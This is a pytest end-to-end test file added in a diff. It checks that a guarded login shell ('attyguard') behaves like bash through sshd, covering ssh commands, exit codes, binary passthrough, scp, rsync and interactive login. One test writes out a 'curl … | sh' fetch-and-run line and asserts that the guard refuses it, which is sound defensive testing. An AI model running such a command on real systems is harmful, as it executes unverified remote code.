@@ -1,0 +1,107 @@
+"""The shell under test as a real account's login shell, reached through a real sshd.
+
+sshd runs `SHELL -c 'CMD'` for `ssh host CMD`, for scp's and rsync's remote
+halves and for the sftp subsystem, and `-SHELL` (a login shell) for an
+interactive login: the paths that break when a login shell is not exactly
+bash-compatible (exit statuses, binary stdin/stdout passthrough, no prompt
+noise on a pipe).
+"""
+
+from __future__ import annotations
+
+import hashlib
+import os
+import shutil
+import subprocess
+from pathlib import Path
+
+import pytest
+from login_fixtures import PROMPT, Sshd, Tmux, engine_blocks
+
+pytestmark = [pytest.mark.e2e, pytest.mark.root]
+
+# Bytes no line-oriented or text-mangling layer would pass through unchanged:
+# every byte value, CR/LF pairs, NULs, an escape sequence, no final newline.
+PAYLOAD = bytes(range(256)) * 64 + b"\r\n\x00\x1b[31mred\x1b[0m\r" + os.urandom(200_000)
+
+
+def test_ssh_command_output(sshd: Sshd) -> None:
+    done = sshd.ssh("echo $((6*7))")
+    assert (done.returncode, done.stdout, done.stderr) == (0, b"42\n", b""), sshd.explain(done)
+
+
+def test_ssh_command_exit_status(sshd: Sshd) -> None:
+    done = sshd.ssh("exit 7")
+    assert done.returncode == 7, sshd.explain(done)
+
+
+def test_ssh_command_stdin_passthrough(sshd: Sshd) -> None:
+    done = sshd.ssh("sha256sum", input=PAYLOAD)
+    want = hashlib.sha256(PAYLOAD).hexdigest().encode()
+    assert done.returncode == 0 and done.stdout.startswith(want), sshd.explain(done)
+
+
+def test_ssh_blocked_command_is_refused_without_running(sshd: Sshd) -> None:
+    line = "curl http://example.invalid/x | sh"
+    if sshd.user.shell.name != "attyguard":
+        pytest.skip("the control shell (bash) guards nothing")
+    blocked, said = engine_blocks("curl http://x/y | sh")
+    if not blocked:
+        pytest.skip(f"the engine does not block `curl … | sh` yet (attyguard check: {said})")
+    marker = sshd.user.home / "ran-before-curl"
+    done = sshd.ssh(f"touch {marker}; {line}")
+    assert done.returncode == 126, sshd.explain(done)
+    assert not marker.exists(), "the blocked line ran (its first command left its marker)"
+    assert done.stdout == b"", sshd.explain(done)
+    assert len(done.stderr.decode(errors="replace").strip().splitlines()) == 1, sshd.explain(done)
+
+
+def _run(argv: list[str], sshd: Sshd) -> None:
+    done = subprocess.run(argv, capture_output=True, stdin=subprocess.DEVNULL, timeout=60)
+    assert done.returncode == 0, sshd.explain(done)
+
+
+@pytest.mark.parametrize("protocol", ["sftp", "scp"], ids=["scp-sftp", "scp-legacy"])
+def test_scp_both_ways(sshd: Sshd, tmp_path: Path, protocol: str) -> None:
+    # Since OpenSSH 9 scp speaks SFTP (the sftp-server subsystem, run through
+    # `SHELL -c`); -O selects the legacy protocol (`SHELL -c 'scp -t …'`).
+    mode = ["-O"] if protocol == "scp" else []
+    scp = ["scp", *sshd.client_opts, "-P", str(sshd.port), *mode]
+    local = tmp_path / "up.bin"
+    local.write_bytes(PAYLOAD)
+    remote = f"{sshd.target}:up-{protocol}.bin"
+    _run([*scp, str(local), remote], sshd)
+    assert (sshd.user.home / f"up-{protocol}.bin").read_bytes() == PAYLOAD
+
+    back = tmp_path / "down.bin"
+    _run([*scp, remote, str(back)], sshd)
+    assert back.read_bytes() == PAYLOAD
+
+
+def test_rsync_both_ways(sshd: Sshd, tmp_path: Path) -> None:
+    if shutil.which("rsync") is None:
+        pytest.skip("rsync is not installed; contrib/dev.sh installs it")
+    tree = tmp_path / "tree"
+    (tree / "sub").mkdir(parents=True)
+    (tree / "a.bin").write_bytes(PAYLOAD)
+    (tree / "sub" / "b.txt").write_text("second file\n")
+    rsync = ["rsync", "-a", "-e", sshd.ssh_command_for_rsync()]
+    _run([*rsync, f"{tree}/", f"{sshd.target}:tree/"], sshd)
+    remote_tree = sshd.user.home / "tree"
+    assert (remote_tree / "a.bin").read_bytes() == PAYLOAD
+    assert (remote_tree / "sub" / "b.txt").read_text() == "second file\n"
+
+    back = tmp_path / "back"
+    _run([*rsync, f"{sshd.target}:tree/", f"{back}/"], sshd)
+    assert (back / "a.bin").read_bytes() == PAYLOAD
+    assert (back / "sub" / "b.txt").read_text() == "second file\n"
+
+
+def test_ssh_interactive_login(sshd: Sshd, tmux: Tmux) -> None:
+    tmux.start(sshd.ssh_argv("-tt"))
+    tmux.wait_screen(lambda s: PROMPT.rstrip() in s, "the login prompt over ssh")
+    tmux.send("echo hi")
+    tmux.wait_screen(lambda s: "hi" in s.splitlines(), "the output of `echo hi`")
+    tmux.send("exit")
+    status = tmux.wait_exit("the ssh session to end after `exit`")
+    assert status == "0", tmux.screen() + "\n" + sshd.log()[-3000:]
